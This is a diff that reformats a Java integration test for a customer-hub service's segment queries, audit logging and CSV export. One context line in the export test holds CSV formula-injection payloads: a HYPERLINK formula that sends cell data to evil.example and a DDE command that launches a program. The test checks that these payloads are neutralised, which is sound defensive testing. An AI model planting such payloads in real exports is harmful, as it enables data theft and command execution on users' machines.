@@ -1,9 +1,9 @@
 package io.junction.service.cases;
 
-import com.fasterxml.jackson.databind.JsonNode;
-import org.junit.jupiter.api.BeforeEach;
-import org.junit.jupiter.api.Test;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
 
+import com.fasterxml.jackson.databind.JsonNode;
 import java.net.URLEncoder;
 import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
@@ -14,9 +14,8 @@ import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
-
-import static org.assertj.core.api.Assertions.assertThat;
-import static org.awaitility.Awaitility.await;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
 
 /**
  * Segments of the customer base on the whole hub (docs/segments.md), over customers this test makes by their orders:
@@ -66,17 +65,23 @@ class SegmentsTest extends ServiceHubTest {
         assertThat(mine.path("orderCount").asInt()).isEqualTo(1);
 
         // the filters combine: tiers and stages as lists, spend, the last order's date
-        assertThat(all("/api/customers?tier=GOLD,LEAD&stage=AT_RISK")).contains(atRiskOptedIn, leadAtRisk).doesNotContain(goldNew);
+        assertThat(all("/api/customers?tier=GOLD,LEAD&stage=AT_RISK"))
+                .contains(atRiskOptedIn, leadAtRisk)
+                .doesNotContain(goldNew);
         assertThat(all("/api/customers?stage=NEW&tier=GOLD")).contains(goldNew).doesNotContain(atRiskOptedIn);
         assertThat(all("/api/customers?tier=GOLD&minSpend=2930")).contains(atRiskOptedIn, goldNew);
         assertThat(all("/api/customers?tier=GOLD&minSpend=2930.01")).doesNotContain(atRiskOptedIn, goldNew);
         LocalDate today = LocalDate.now(ZoneOffset.UTC);
-        assertThat(all("/api/customers?tier=GOLD&lastOrderBefore=" + today.minusDays(100))).contains(atRiskOptedIn).doesNotContain(goldNew);
-        assertThat(all("/api/customers?tier=GOLD&lastOrderBefore=" + today.minusDays(130))).doesNotContain(atRiskOptedIn);
+        assertThat(all("/api/customers?tier=GOLD&lastOrderBefore=" + today.minusDays(100)))
+                .contains(atRiskOptedIn)
+                .doesNotContain(goldNew);
+        assertThat(all("/api/customers?tier=GOLD&lastOrderBefore=" + today.minusDays(130)))
+                .doesNotContain(atRiskOptedIn);
 
         // one audited read per page, with what it showed
-        Map<String, Object> audit = jdbc.queryForMap("select principal, customer_id, segment, row_count from customer_read_audit "
-                + "where lookup = 'segment' and segment = 'tier=GOLD&stage=AT_RISK' order by id desc fetch first 1 rows only");
+        Map<String, Object> audit = jdbc.queryForMap(
+                "select principal, customer_id, segment, row_count from customer_read_audit "
+                        + "where lookup = 'segment' and segment = 'tier=GOLD&stage=AT_RISK' order by id desc fetch first 1 rows only");
         assertThat(audit.get("principal")).isEqualTo("viewer");
         assertThat(audit.get("customer_id")).isNull();
         assertThat(((Number) audit.get("row_count")).intValue()).isEqualTo(members.size());
@@ -86,13 +91,17 @@ class SegmentsTest extends ServiceHubTest {
     void theExportIsCsvOfTheSegmentsCustomersWhoOptedInToMarketing() {
         HttpResponse<String> response = getAs(VIEWER, "/api/customers/export.csv?tier=GOLD&stage=AT_RISK");
         assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
-        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(t -> assertThat(t).startsWith("text/csv"));
-        assertThat(response.headers().firstValue("Content-Disposition")).hasValue("attachment; filename=\"customers-tier-GOLD-stage-AT_RISK.csv\"");
+        assertThat(response.headers().firstValue("Content-Type"))
+                .hasValueSatisfying(t -> assertThat(t).startsWith("text/csv"));
+        assertThat(response.headers().firstValue("Content-Disposition"))
+                .hasValue("attachment; filename=\"customers-tier-GOLD-stage-AT_RISK.csv\"");
         // streamed as it is read from the database, not buffered to learn its length first
         assertThat(response.headers().firstValue("Content-Length")).isEmpty();
         List<List<String>> rows = csv(response.body());
-        assertThat(response.body()).startsWith("id,email,phone,first_name,last_name,preferred_channel,tier,stage,lifetime_value,order_count,"
-                + "last_order_at\r\n");
+        assertThat(response.body())
+                .startsWith(
+                        "id,email,phone,first_name,last_name,preferred_channel,tier,stage,lifetime_value,order_count,"
+                                + "last_order_at\r\n");
         assertThat(rows).allSatisfy(row -> assertThat(row).hasSize(11));
         Map<String, List<String>> byId = new HashMap<>();
         rows.subList(1, rows.size()).forEach(row -> byId.put(row.get(0), row));
@@ -105,16 +114,20 @@ class SegmentsTest extends ServiceHubTest {
         List<String> attacker = byId.get(formulas);
         assertThat(attacker.get(3)).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
         assertThat(attacker.get(1)).startsWith("'-2+3+cmd|'/c-calc'!a0-");
-        assertThat(rows.subList(1, rows.size())).allSatisfy(row -> assertThat(row).noneMatch(f -> f.matches("(?s)[=+\\-@\t\r].*")
-                && !f.matches("[+-]?[0-9.]+")));
+        assertThat(rows.subList(1, rows.size())).allSatisfy(row -> assertThat(row)
+                .noneMatch(f -> f.matches("(?s)[=+\\-@\t\r].*") && !f.matches("[+-]?[0-9.]+")));
         // every row is an opted-in member of the segment
-        assertThat(byId.keySet()).allSatisfy(id -> assertThat(jdbc.queryForObject(
-                "select marketing_opt_in from customer where id = ?", Boolean.class, id)).isTrue());
+        assertThat(byId.keySet()).allSatisfy(id -> assertThat(
+                        jdbc.queryForObject("select marketing_opt_in from customer where id = ?", Boolean.class, id))
+                .isTrue());
 
         // audited as one read, with the number of customers sent once the export ended
-        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(jdbc.queryForMap(
-                "select principal, segment, row_count from customer_read_audit where lookup = 'export' order by id desc fetch first 1 rows only"))
-                .containsEntry("principal", "viewer").containsEntry("segment", "tier=GOLD&stage=AT_RISK").containsEntry("row_count", byId.size()));
+        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(
+                        jdbc.queryForMap(
+                                "select principal, segment, row_count from customer_read_audit where lookup = 'export' order by id desc fetch first 1 rows only"))
+                .containsEntry("principal", "viewer")
+                .containsEntry("segment", "tier=GOLD&stage=AT_RISK")
+                .containsEntry("row_count", byId.size()));
     }
 
     @Test
@@ -130,16 +143,23 @@ class SegmentsTest extends ServiceHubTest {
         assertBad("/api/customers?tier=GOLD&lastOrderBefore=yesterday", "lastOrderBefore", "date");
         assertBad("/api/customers?size=10", "tier|stage|minSpend|lastOrderBefore", "at least one");
         assertBad("/api/customers/export.csv", "tier|stage|minSpend|lastOrderBefore", "at least one");
-        assertBad("/api/customers?tier=GOLD&email=" + URLEncoder.encode("a@example.com", StandardCharsets.UTF_8), "email", "not with a segment");
+        assertBad(
+                "/api/customers?tier=GOLD&email=" + URLEncoder.encode("a@example.com", StandardCharsets.UTF_8),
+                "email",
+                "not with a segment");
         // the one-customer lookups are as they were
         assertBad("/api/customers", "email|phone|system+sourceId", "required");
         assertThat(getAs(null, "/api/customers?tier=GOLD").statusCode()).isEqualTo(401);
-        assertThat(getAs(null, "/api/customers/export.csv?tier=GOLD").statusCode()).isEqualTo(401);
+        assertThat(getAs(null, "/api/customers/export.csv?tier=GOLD").statusCode())
+                .isEqualTo(401);
     }
 
     private String placed(Shopper shopper, java.math.BigDecimal value, int daysAgo, String tier) {
-        assertThat(deliver(shopper.place(shopper.newOrderId(), value, daysAgo)).statusCode()).isEqualTo(202);
-        return view(shopper, c -> tier.equals(c.path("tier").asText())).path("id").asText();
+        assertThat(deliver(shopper.place(shopper.newOrderId(), value, daysAgo)).statusCode())
+                .isEqualTo(202);
+        return view(shopper, c -> tier.equals(c.path("tier").asText()))
+                .path("id")
+                .asText();
     }
 
     /** Every member id of a segment, following {@code next} from the first page. */
@@ -175,7 +195,8 @@ class SegmentsTest extends ServiceHubTest {
     private void assertBad(String path, String parameter, String allowed) {
         HttpResponse<String> response = getAs(VIEWER, path);
         assertThat(response.statusCode()).as(path + ": " + response.body()).isEqualTo(400);
-        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(t -> assertThat(t).startsWith("application/problem+json"));
+        assertThat(response.headers().firstValue("Content-Type"))
+                .hasValueSatisfying(t -> assertThat(t).startsWith("application/problem+json"));
         JsonNode problem = json(response);
         assertThat(problem.path("errors").findValuesAsText("field")).as(path).contains(parameter);
         assertThat(problem.path("errors").findValuesAsText("problem")).as(path).anyMatch(p -> p.contains(allowed));
